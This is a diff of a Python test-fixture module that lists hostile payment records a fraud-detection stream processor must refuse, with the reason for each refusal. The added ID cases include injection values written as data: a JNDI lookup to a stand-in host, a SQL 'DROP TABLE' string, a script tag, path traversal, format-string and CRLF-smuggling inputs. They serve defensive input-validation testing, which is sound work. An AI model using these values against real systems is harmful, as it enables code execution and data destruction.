@@ -1,125 +1,36 @@
 """Hostile records, as data: what a publisher's bug, or a publisher, may put into a topic.
 
 Each is refused for one reason, and where one of our fields is at fault, that field is named.
-`fraudstream event check` and the fault tests can publish the same list.
+Unit tests parse them one by one; `tests/integration/test_bad_input.py` publishes all of them to a
+live worker, and the fault tests mix them into their load.
 """
 
 from __future__ import annotations
 
 import json
-from typing import Any, NamedTuple
+from typing import Any
+
+from hostile_json import UNREADABLE
+from hostile_writing import (
+    CARD_NUMBER,
+    LABEL,
+    PAYMENT,
+    RECORD_TIME_MS,
+    YEAR_MS,
+    Hostile,
+    label,
+    note,
+    payment,
+    raw,
+    without,
+)
 
 from fraudstream.errors import Reason
 
-#: The Kafka timestamp of the records, and the time of the events in them.
-RECORD_TIME_MS = 1_532_513_472_500
-#: The number that payment networks give to testers; it passes Luhn and belongs to nobody.
-CARD_NUMBER = "4111111111111111"
-KIBIBYTE = 1024
-YEAR_MS = 365 * 86_400_000
-
-PAYMENT: dict[str, Any] = {
-    "transaction_id": "tx1",
-    "event_time": "2018-07-25T10:11:12.500Z",
-    "card_id": "c1",
-    "terminal_id": "t1",
-    "amount_minor": 5716,
-    "currency": "EUR",
-}
-LABEL: dict[str, Any] = {
-    "transaction_id": "tx1",
-    "event_time": RECORD_TIME_MS - 1_000,
-    "card_id": "c1",
-    "terminal_id": "t1",
-    "is_fraud": True,
-    "reported_at": RECORD_TIME_MS,
-    "source": "chargeback",
-}
-
-
-class Hostile(NamedTuple):
-    """A record's value that must be refused, and why."""
-
-    name: str
-    value: bytes | None
-    reason: Reason
-    field: str = ""
-
-
-def payment(**changes: object) -> bytes:
-    """Write the good payment with some fields changed."""
-    return json.dumps(PAYMENT | changes).encode()
-
-
-def label(**changes: object) -> bytes:
-    """Write the good label with some fields changed."""
-    return json.dumps(LABEL | changes).encode()
-
-
-def without(event: dict[str, Any], field: str) -> bytes:
-    """Write an event without one of its fields."""
-    return json.dumps({name: value for name, value in event.items() if name != field}).encode()
-
-
-def raw(field: str, text: str) -> bytes:
-    """Write the good payment with one field spelt out, as no JSON writer would."""
-    written = json.dumps({name: value for name, value in PAYMENT.items() if name != field})
-    return f'{written[:-1]}, "{field}": {text}}}'.encode()
-
-
-def extra(text: str) -> bytes:
-    """Write the good payment with an unknown field spelt out."""
-    return raw("note", text)
-
-
-UNREADABLE = (
-    Hostile("null", None, Reason.NULL_VALUE),
-    Hostile("empty", b"", Reason.EMPTY),
-    Hostile("white space", b" \n\t", Reason.INVALID_JSON),
-    Hostile("words", b"hello", Reason.INVALID_JSON),
-    Hostile("CSV", b"tx1;2018-07-25;c1;t1;57.16;EUR", Reason.INVALID_JSON),
-    Hostile("XML", b"<tx><id>1</id></tx>", Reason.INVALID_JSON),
-    Hostile("Python's repr", b"{'transaction_id': 'tx1'}", Reason.INVALID_JSON),
-    Hostile("truncated", payment()[:-1], Reason.INVALID_JSON),
-    Hostile("truncated in a string", payment()[:25], Reason.INVALID_JSON),
-    Hostile("two objects", payment() + payment(), Reason.INVALID_JSON),
-    Hostile("trailing comma", payment()[:-1] + b",}", Reason.INVALID_JSON),
-    Hostile("comment", b"// a payment\n" + payment(), Reason.INVALID_JSON),
-    Hostile("byte order mark", b"\xef\xbb\xbf" + payment(), Reason.INVALID_JSON),
-    Hostile("UTF-16", payment().decode().encode("utf-16"), Reason.INVALID_UTF8),
-    Hostile("zero byte inside", extra('"a\0b"'), Reason.INVALID_JSON),
-    Hostile("NaN", raw("amount_minor", "NaN"), Reason.INVALID_JSON),
-    Hostile("infinity", raw("amount_minor", "Infinity"), Reason.INVALID_JSON),
-    Hostile("minus infinity", raw("amount_minor", "-Infinity"), Reason.INVALID_JSON),
-    Hostile("1e400", raw("amount_minor", "1e400"), Reason.INVALID_JSON),
-    Hostile("NaN in an unknown field", extra("NaN"), Reason.INVALID_JSON),
-    Hostile("leading zero", raw("amount_minor", "05716"), Reason.INVALID_JSON),
-    Hostile("hexadecimal", raw("amount_minor", "0x1654"), Reason.INVALID_JSON),
-    Hostile("lone surrogate", extra(r'"\ud800"'), Reason.INVALID_JSON),
-    Hostile("lone surrogate in an id", raw("card_id", r'"c\udfff"'), Reason.INVALID_JSON),
-    Hostile("surrogate in UTF-8", extra('"~"').replace(b"~", b"\xed\xa0\x80"), Reason.INVALID_UTF8),
-    Hostile("Latin-1", extra('"~"').replace(b"~", b"caf\xe9"), Reason.INVALID_UTF8),
-    Hostile("overlong UTF-8", extra('"~"').replace(b"~", b"\xc0\xaf"), Reason.INVALID_UTF8),
-    Hostile("random bytes", bytes(range(255, 127, -1)), Reason.INVALID_UTF8),
-    Hostile("gzip", b"\x1f\x8b\x08\x00\x00\x00\x00\x00", Reason.INVALID_UTF8),
-    Hostile("array", b"[" + payment() + b"]", Reason.NOT_AN_OBJECT),
-    Hostile("empty array", b"[]", Reason.NOT_AN_OBJECT),
-    Hostile("string", b'"payment"', Reason.NOT_AN_OBJECT),
-    Hostile("JSON in a string", json.dumps(payment().decode()).encode(), Reason.NOT_AN_OBJECT),
-    Hostile("number", b"5716", Reason.NOT_AN_OBJECT),
-    Hostile("true", b"true", Reason.NOT_AN_OBJECT),
-    Hostile("JSON null", b"null", Reason.NOT_AN_OBJECT),
-    Hostile("deep arrays", b"[" * 60_000, Reason.TOO_DEEP),
-    Hostile("deep objects", b'{"a":' * 10_000, Reason.TOO_DEEP),
-    Hostile("deep unknown field", extra("[" * 30_000 + "]" * 30_000), Reason.TOO_DEEP),
-    Hostile("depth 100,000", b"[" * 100_000, Reason.TOO_LARGE),
-    Hostile("one byte too many", payment().ljust(64 * KIBIBYTE + 1), Reason.TOO_LARGE),
-    Hostile("10 MB of array", extra("[" + "0," * 5 * KIBIBYTE**2 + "0]"), Reason.TOO_LARGE),
-    Hostile("10 MB of zero bytes", b"\0" * 10 * KIBIBYTE**2, Reason.TOO_LARGE),
-    Hostile("schema registry's frame", b"\0\0\0\0\x01" + payment(), Reason.FRAMING),
-    Hostile("nothing but a zero byte", b"\0", Reason.FRAMING),
-    Hostile("big-endian UTF-16", payment().decode().encode("utf-16-be"), Reason.FRAMING),
-)
+__all__ = (
+    "CARD_NUMBER", "LABEL", "PAYMENT", "RECORD_TIME_MS", "Hostile", "label", "payment", "raw",
+    "without",
+)  # fmt: skip
 
 IDS = tuple(
     Hostile(f"{field}: {name}", payment(**{field: value}), reason, field)
@@ -137,12 +48,23 @@ IDS = tuple(
         ("full-width digits", "１２３", Reason.BAD_FORMAT),
         ("emoji", "💳", Reason.BAD_FORMAT),
         ("right-to-left mark", "c1\u200f", Reason.BAD_FORMAT),
+        ("no-break space", "c\u00a01", Reason.BAD_FORMAT),
+        ("carriage return and line feed", "c1\r\nfs_reason: none", Reason.BAD_FORMAT),
+        ("terminal's escape", "c\x1b[2J", Reason.BAD_FORMAT),
+        ("a look-up", "${jndi:ldap://c.example/1}", Reason.BAD_FORMAT),
+        ("SQL", "c1'; DROP TABLE cards; --", Reason.BAD_FORMAT),
+        ("mark-up", "<script>c1</script>", Reason.BAD_FORMAT),
+        ("a path", "../../c1", Reason.BAD_FORMAT),
+        ("a format", "%s%n", Reason.BAD_FORMAT),
         ("number", 17, Reason.WRONG_TYPE),
         ("float", 1.5, Reason.WRONG_TYPE),
         ("boolean", True, Reason.WRONG_TYPE),
         ("array", ["c1"], Reason.WRONG_TYPE),
         ("object", {"id": "c1"}, Reason.WRONG_TYPE),
         ("null", None, Reason.WRONG_TYPE),
+        ("minus zero", -0.0, Reason.WRONG_TYPE),
+        ("empty array", [], Reason.WRONG_TYPE),
+        ("empty object", {}, Reason.WRONG_TYPE),
     )
 )
 
@@ -155,6 +77,13 @@ AMOUNTS = tuple(
         ("whole float", "5716.0", Reason.WRONG_TYPE),
         ("float", "57.16", Reason.WRONG_TYPE),
         ("exponent", "1e3", Reason.WRONG_TYPE),
+        ("capital exponent", "1E3", Reason.WRONG_TYPE),
+        ("exponent of nothing", "0e0", Reason.WRONG_TYPE),
+        ("minus zero as a float", "-0.0", Reason.WRONG_TYPE),
+        ("smaller than any double", "1e-400", Reason.WRONG_TYPE),
+        ("empty string", '""', Reason.WRONG_TYPE),
+        ("with its currency", '"57.16 EUR"', Reason.WRONG_TYPE),
+        ("false", "false", Reason.WRONG_TYPE),
         ("boolean", "true", Reason.WRONG_TYPE),
         ("array", "[5716]", Reason.WRONG_TYPE),
         ("object", '{"value": 5716}', Reason.WRONG_TYPE),
@@ -163,7 +92,11 @@ AMOUNTS = tuple(
         ("2^53", str(2**53), Reason.OUT_OF_RANGE),
         ("2^63", str(2**63), Reason.OUT_OF_RANGE),
         ("minus 2^63", str(-(2**63)), Reason.OUT_OF_RANGE),
+        ("2^63 − 1", str(2**63 - 1), Reason.OUT_OF_RANGE),
+        ("2^64 − 1", str(2**64 - 1), Reason.OUT_OF_RANGE),
         ("2^64", str(2**64), Reason.WRONG_TYPE),
+        ("less than minus 2^63", str(-(2**63) - 1), Reason.WRONG_TYPE),
+        ("300 digits", "1" * 300, Reason.WRONG_TYPE),
     )
 )
 
@@ -193,13 +126,38 @@ def _times(event: dict[str, Any], field: str) -> tuple[Hostile, ...]:
         ("30 February", "2018-02-30T10:11:12Z", Reason.BAD_FORMAT),
         ("month 13", "2018-13-01T10:11:12Z", Reason.BAD_FORMAT),
         ("hour 24", "2018-07-25T24:11:12Z", Reason.BAD_FORMAT),
+        ("second 60", "2018-07-25T10:11:60Z", Reason.BAD_FORMAT),
+        ("minute 60", "2018-07-25T10:60:12Z", Reason.BAD_FORMAT),
+        ("day 0", "2018-07-00T10:11:12Z", Reason.BAD_FORMAT),
+        ("month 0", "2018-00-25T10:11:12Z", Reason.BAD_FORMAT),
+        ("29 February of no leap year", "2019-02-29T10:11:12Z", Reason.BAD_FORMAT),
         ("leap second", "2016-12-31T23:59:60Z", Reason.BAD_FORMAT),
+        ("zone of 24 hours", "2018-07-25T10:11:12+24:00", Reason.BAD_FORMAT),
+        ("zone of 60 minutes", "2018-07-25T10:11:12+02:60", Reason.BAD_FORMAT),
+        ("zone of hours alone", "2018-07-25T10:11:12+02", Reason.BAD_FORMAT),
+        ("zone with a true minus sign", "2018-07-25T10:11:12−02:00", Reason.BAD_FORMAT),
+        ("no seconds", "2018-07-25T10:11Z", Reason.BAD_FORMAT),
+        ("no digit behind the point", "2018-07-25T10:11:12.Z", Reason.BAD_FORMAT),
+        ("decimal comma", "2018-07-25T10:11:12,5Z", Reason.BAD_FORMAT),
+        ("no separators", "20180725T101112Z", Reason.BAD_FORMAT),
+        ("day of the year", "2018-206T10:11:12Z", Reason.BAD_FORMAT),
+        ("week", "2018-W30-3T10:11:12Z", Reason.BAD_FORMAT),
+        ("month of one digit", "2018-7-25T10:11:12Z", Reason.BAD_FORMAT),
+        ("year with a sign", "+2018-07-25T10:11:12Z", Reason.BAD_FORMAT),
+        ("year 0", "0000-07-25T10:11:12Z", Reason.BAD_FORMAT),
+        ("American", "07/25/2018 10:11:12 AM", Reason.BAD_FORMAT),
+        ("RFC 2822", "Wed, 25 Jul 2018 10:11:12 +0000", Reason.BAD_FORMAT),
+        ("full-width digits", "２０１８-07-25T10:11:12Z", Reason.BAD_FORMAT),
+        ("space before", " 2018-07-25T10:11:12Z", Reason.BAD_FORMAT),
+        ("space behind", "2018-07-25T10:11:12Z ", Reason.BAD_FORMAT),
+        ("zero byte behind", "2018-07-25T10:11:12Z\0", Reason.BAD_FORMAT),
         ("zone of 25 hours", "2018-07-25T10:11:12+25:00", Reason.BAD_FORMAT),
         ("named zone", "2018-07-25T10:11:12 CET", Reason.BAD_FORMAT),
         ("year 10000", "10000-07-25T10:11:12Z", Reason.BAD_FORMAT),
         ("words", "yesterday", Reason.BAD_FORMAT),
         ("empty", "", Reason.BAD_FORMAT),
         ("line feed at the end", "2018-07-25T10:11:12Z\n", Reason.BAD_FORMAT),
+        ("JavaScript's wrong date", "Invalid Date", Reason.BAD_FORMAT),
         ("milliseconds in a string", str(RECORD_TIME_MS), Reason.BAD_FORMAT),
         ("seconds, so in 1970", RECORD_TIME_MS // 1000, Reason.TIME_TOO_EARLY),
         ("1970", "1970-01-01T00:00:00Z", Reason.TIME_TOO_EARLY),
@@ -213,6 +171,10 @@ def _times(event: dict[str, Any], field: str) -> tuple[Hostile, ...]:
         ("in ten years, in words", "2028-07-25T10:11:12.500Z", Reason.TIME_IN_FUTURE),
         ("year 9999 of a zone behind", "9999-12-31T23:59:59-14:00", Reason.TIME_IN_FUTURE),
         ("microseconds", RECORD_TIME_MS * 1000, Reason.TIME_IN_FUTURE),
+        ("nanoseconds", RECORD_TIME_MS * 1_000_000, Reason.TIME_IN_FUTURE),
+        ("a day ahead", RECORD_TIME_MS + 86_400_000, Reason.TIME_IN_FUTURE),
+        ("2^53", 2**53, Reason.TIME_IN_FUTURE),
+        ("2^63 − 1", 2**63 - 1, Reason.TIME_IN_FUTURE),
         ("2^63", 2**63, Reason.TIME_IN_FUTURE),
         ("2^64", 2**64, Reason.WRONG_TYPE),
         ("whole float", float(RECORD_TIME_MS), Reason.WRONG_TYPE),
@@ -225,6 +187,8 @@ def _times(event: dict[str, Any], field: str) -> tuple[Hostile, ...]:
     return tuple(Hostile(f"{field}: {n}", write(v), reason, field) for n, v, reason in cases)
 
 
+TIMES = _times(PAYMENT, "event_time")
+
 MISSING = tuple(
     Hostile(f"{field} missing", without(PAYMENT, field), Reason.MISSING_FIELD, field)
     for field in PAYMENT
@@ -233,6 +197,24 @@ NULLS = tuple(
     Hostile(f"{field} null", payment(**{field: None}), Reason.WRONG_TYPE, field)
     for field in PAYMENT
 )
+
+ENVELOPES = tuple(
+    Hostile(name, json.dumps(value).encode(), Reason.MISSING_FIELD, "transaction_id")
+    for name, value in (
+        ("CloudEvents' envelope", {"specversion": "1.0", "id": "1", "data": PAYMENT}),
+        ("Debezium's envelope", {"before": None, "after": PAYMENT, "op": "c"}),
+        ("Debezium's deletion", {"before": PAYMENT, "after": None, "op": "d"}),
+        ("Connect's envelope", {"schema": {"type": "struct"}, "payload": PAYMENT}),
+        ("our own dead letter's", {"value": json.dumps(PAYMENT), "fs_reason": "empty"}),
+        ("a list of them", {"transactions": [PAYMENT, PAYMENT]}),
+        ("camel case", {"transactionId": "tx1", "eventTime": RECORD_TIME_MS, "cardId": "c1"}),
+        ("names with hyphens", {n.replace("_", "-"): v for n, v in PAYMENT.items()}),
+        ("names with a space", {f"{n} ": v for n, v in PAYMENT.items()}),
+        ("names with a zero byte", {f"{n}\0": v for n, v in PAYMENT.items()}),
+        ("names with a byte order mark", {f"\ufeff{n}": v for n, v in PAYMENT.items()}),
+        ("dotted names", {f"payment.{n}": v for n, v in PAYMENT.items()}),
+    )
+)  # fmt: skip
 
 CARD_NUMBERS = tuple(
     Hostile(f"card number in {name}", value, Reason.CARD_NUMBER, field)
@@ -259,8 +241,38 @@ CARD_NUMBERS = tuple(
         ("the name of an unknown field", payment(**{CARD_NUMBER: 1}), ""),
         ("a nested name", payment(cards={CARD_NUMBER: {"cvc": 1}}), ""),
         ("JSON in a string", payment(body=json.dumps({"pan": CARD_NUMBER})), ""),
+        ("15 digits", payment(note="378282246310005"), ""),
+        ("15 digits in groups", payment(note="3782 822463 10005"), ""),
+        ("14 digits", payment(note="30569309025904"), ""),
+        ("13 digits", payment(note="4222222222222"), ""),
+        ("19 digits", payment(note="6205500000000000004"), ""),
+        ("another network's", payment(card_id="5555555555554444"), "card_id"),
+        ("a third network's", payment(card_id="6011-1111-1111-1117"), "card_id"),
+        ("quotes", payment(note=f"'{CARD_NUMBER}'"), ""),
+        ("mark-up", payment(note=f"<pan>{CARD_NUMBER}</pan>"), ""),
+        ("a line of CSV", payment(note=f"tx1;{CARD_NUMBER};57.16"), ""),
+        ("a magnetic stripe's track", payment(note=f";{CARD_NUMBER}=25121010000012345678?"), ""),
     )
 )
+
+#: Refused for another reason, and yet nothing of them may be kept.
+LEAKS = tuple(
+    Hostile(f"card number in {name}", value, reason, field)
+    for name, value, reason, field in (
+        ("half a payment", payment(pan=CARD_NUMBER)[:-1], Reason.INVALID_JSON, ""),
+        ("a line of words", f"paid with {CARD_NUMBER}".encode(), Reason.INVALID_JSON, ""),
+        ("Latin-1", note(b"caf\xe9 " + CARD_NUMBER.encode()), Reason.INVALID_UTF8, ""),
+        ("an array", f'["{CARD_NUMBER}"]'.encode(), Reason.NOT_AN_OBJECT, ""),
+        ("a number alone", CARD_NUMBER.encode(), Reason.NOT_AN_OBJECT, ""),
+        ("a frame", b"\0\0\0\0\x01" + payment(pan=CARD_NUMBER), Reason.FRAMING, ""),
+        ("card_id as a number", payment(card_id=int(CARD_NUMBER)), Reason.WRONG_TYPE, "card_id"),
+        ("terminal_id", payment(terminal_id=f"t {CARD_NUMBER}"), Reason.BAD_FORMAT, "terminal_id"),
+        ("currency", payment(currency=CARD_NUMBER), Reason.BAD_FORMAT, "currency"),
+        ("amount_minor", payment(amount_minor=int(CARD_NUMBER)), Reason.OUT_OF_RANGE,
+         "amount_minor"),
+        ("event_time", payment(event_time=int(CARD_NUMBER)), Reason.TIME_IN_FUTURE, "event_time"),
+    )
+)  # fmt: skip
 
 PAYMENTS: tuple[Hostile, ...] = (
     *UNREADABLE,
@@ -269,10 +281,18 @@ PAYMENTS: tuple[Hostile, ...] = (
     *IDS,
     *AMOUNTS,
     *CURRENCIES,
-    *_times(PAYMENT, "event_time"),
+    *TIMES,
+    *ENVELOPES,
     *CARD_NUMBERS,
+    *LEAKS,
     Hostile("no field at all", b"{}", Reason.MISSING_FIELD, "transaction_id"),
     Hostile("a label", label(), Reason.MISSING_FIELD, "amount_minor"),
+    Hostile(
+        "Avro's JSON",
+        payment(transaction_id={"string": "tx1"}),
+        Reason.WRONG_TYPE,
+        "transaction_id",
+    ),
     Hostile("names in capitals", payment().upper(), Reason.MISSING_FIELD, "transaction_id"),
 )
 
